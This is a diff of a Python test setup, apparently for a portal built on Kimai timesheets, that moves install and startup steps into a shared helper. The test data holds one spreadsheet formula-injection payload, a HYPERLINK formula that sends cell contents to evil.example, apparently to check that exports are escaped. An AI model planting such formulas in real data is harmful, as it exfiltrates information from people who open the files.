@@ -15,10 +15,10 @@ import re
 import secrets
 import subprocess
 import time
-import types
 import urllib.parse
 from zoneinfo import ZoneInfo
 
+from . import common
 from . import harness
 from .test_admin import DUMP_HASH, csrf, form_login_payload, new_session
 from .test_share import GEN_DATA, GEN_RECORDS, Page, add_share, timesheet_insert
@@ -35,22 +35,12 @@ FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
 
 def setup(env):
-    fx = types.SimpleNamespace(env=env, m=env.mariadb)
+    fx = common.installed_kimai(env)
     m = fx.m
-    fx.db = m.kimai_db('2.45-rates')
-    fx.url = m.url(fx.db)
-    r = harness.run_install(fx.url)
-    assert r.returncode == 0, f'portal-install failed:\n{r.stdout}\n{r.stderr}'
     m.sql(fx.db, GEN_DATA + timesheet_insert(GEN_RECORDS, 'Europe/Berlin') +
           timesheet_insert([(530, 60, 51, '2026-04-20 08:00:00', '2026-04-20 08:15:00', 900,
                              60, 15, 1, FORMULA)], 'Europe/Berlin'))
-    m.sql(fx.db, "INSERT IGNORE INTO kimai2_roles (name) VALUES ('ROLE_USER'), "
-                 "('ROLE_SUPER_ADMIN')")
-    fx.secret = secrets.token_hex(32)
-    fx.portal = env.portal(fx.url, secret=fx.secret, workers=2,
-                           args=['--trusted-proxy', '127.0.0.1/32'])
-    fx.n = env.nginx(fx.portal)
-    return fx
+    return common.start_portal(env, fx)
 
 
 # --------------------------------------------------------------------------------------
